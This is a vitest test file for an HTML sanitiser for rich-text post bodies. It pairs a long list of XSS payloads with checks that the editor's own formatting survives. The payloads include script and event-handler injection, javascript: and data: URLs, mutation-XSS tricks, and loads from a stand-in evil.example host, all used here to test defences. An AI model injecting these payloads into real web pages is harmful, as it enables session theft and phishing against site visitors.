import { describe, expect, it } from 'vitest'
import { type HtmlElement, type HtmlNode, parseSafeHtml, writeHtml } from './html-tree.server'
import { sanitizePostBody } from './sanitize-post.server'

/** What an attacker with an editor's session, or a stolen database dump, would store. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="DATA:IMAGE/SVG+XML,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src="https://pictures.example/a.png">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">a</a>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>',
  '<iframe src="//www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p onmouseover="alert(1)" id="content" name="body" is="x-y">a</p>',
  '<p style="background:url(https://evil.example/x)">a</p>',
  '<p style="color:expression(alert(1))">a</p>',
  '<p style="color:red;position:fixed;top:0;left:0;width:100vw;height:100vh">a</p>',
  '<p style="color: url(javascript:alert(1))">a</p>',
  '<p class="skip-link site-header">a</p>',
  '<img class="cta-seal" src="https://pictures.example/a.png">',
  '<ol class="site-menu"><li class="toast" data-list="\'><script>">a</li></ol>',
  '<span contenteditable="true" data-app data-video="x">a</span>',
  '<b><i class="site-footer">a</i></b>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<a href="https://ok.example/?q=&quot;onmouseover=alert(1)&quot;">a</a>',
  '<p title="&quot;><script>alert(1)</script>">a</p>',
  '<img alt="&lt;script&gt;" src="https://pictures.example/a.png?x=&quot;&gt;">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0000<script\u0000>alert(1)</script></p>',
  '<custom-element onconnected=alert(1)>a</custom-element>',
  '<p><p><p></b></i></p>',
  '<',
  '<a',
  '<a href="',
  '</p></ol></div></body></html>',
]

const tags = new Set([
  ...['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ol', 'ul', 'li', 'blockquote', 'a', 'strong', 'b', 'em', 'i'],
  ...['u', 's', 'sub', 'sup', 'span', 'br', 'img', 'iframe'],
])

const attributes: Record<string, RegExp> = {
  href: /^(https?:|mailto:|tel:|\/(?!\/)|#|[\w-]+(?:[/.?#]|$))/i,
  src: /^(https?:\/\/|\/(?!\/)|data:image\/(png|jpeg|gif|webp|avif);base64,|[^:/]+$)/i,
  class: /^(ql-[\w-]+)( ql-[\w-]+)*$/,
  style: /^(background-)?color:[#\w(),.% ]+(;background-color:[#\w(),.% ]+)?$/,
  'data-list': /^(ordered|bullet|checked|unchecked)$/,
  contenteditable: /^false$/,
  alt: /^/,
  rel: /^/,
  target: /^/,
  width: /^/,
  height: /^/,
  allowfullscreen: /^/,
  frameborder: /^/,
}

const elementsOf = (nodes: readonly HtmlNode[]): HtmlElement[] =>
  nodes.flatMap(node => (typeof node === 'string' ? [] : [node, ...elementsOf(node.children)]))

describe('sanitizePostBody', () => {
  it.each(hostile)('leaves nothing dangerous of %j', input => {
    const safe = sanitizePostBody(input)
    const nodes = parseSafeHtml(safe)
    // Reading it again loses nothing: there is no markup that a browser could see and this test could not.
    expect(writeHtml(nodes)).toBe(safe.replaceAll(' />', '>'))
    for (const element of elementsOf(nodes)) {
      expect(tags).toContain(element.tag)
      for (const [name, value] of Object.entries(element.attributes)) {
        expect(Object.keys(attributes)).toContain(name)
        expect(value).toMatch(attributes[name] ?? /^$/)
        expect(value).not.toMatch(/[<>"]/)
      }
      if (element.tag === 'iframe')
        expect(element.attributes.src).toMatch(
          /^https:\/\/(www\.youtube(-nocookie)?\.com|player\.vimeo\.com)\//,
        )
    }
  })

  it('sanitises its own output to itself', () => {
    for (const input of hostile) {
      const once = sanitizePostBody(input)
      expect(sanitizePostBody(once)).toBe(once)
    }
  })

  it.each([
    ['headings', '<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>'],
    ['inline formats', '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><sub>e</sub><sup>f</sup></p>'],
    ['alignment, direction and indent', '<p class="ql-align-center ql-direction-rtl ql-indent-8">a</p>'],
    [
      'sizes and fonts',
      '<p><span class="ql-size-huge">a</span><strong class="ql-font-monospace">b</strong></p>',
    ],
    ['colours', '<p><span style="color:#e60000;background-color:rgb(255, 255, 0)">a</span></p>'],
    [
      'links',
      '<p><a href="https://a.example/?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">a</a></p>',
    ],
    ['mail and telephone links', '<p><a href="mailto:a@b.example">a</a><a href="tel:+16045550142">b</a></p>'],
    [
      'pictures',
      '<p><img src="/storage/v1/object/public/portfolio_images/content_1.png" alt="A chart" /></p>',
    ],
    ['pictures as data', '<p><img src="data:image/png;base64,iVBORw0KGgo=" /></p>'],
    [
      'lists',
      '<ol><li data-list="bullet" class="ql-indent-1"><span class="ql-ui" contenteditable="false"></span>a</li></ol>',
    ],
    [
      'videos',
      '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/abcdefghijk?showinfo=0"></iframe>',
    ],
  ])('keeps the %s of the editor', (_, html) => {
    expect(sanitizePostBody(html)).toBe(html)
  })

  it('keeps the text of a body that is nested without end', () => {
    const safe = sanitizePostBody(`${'<b>'.repeat(20_000)}deep${'</b>'.repeat(20_000)}`)
    expect(safe).toMatch(/^(<b>){24}deep(<\/b>){24}$/)
  })
})
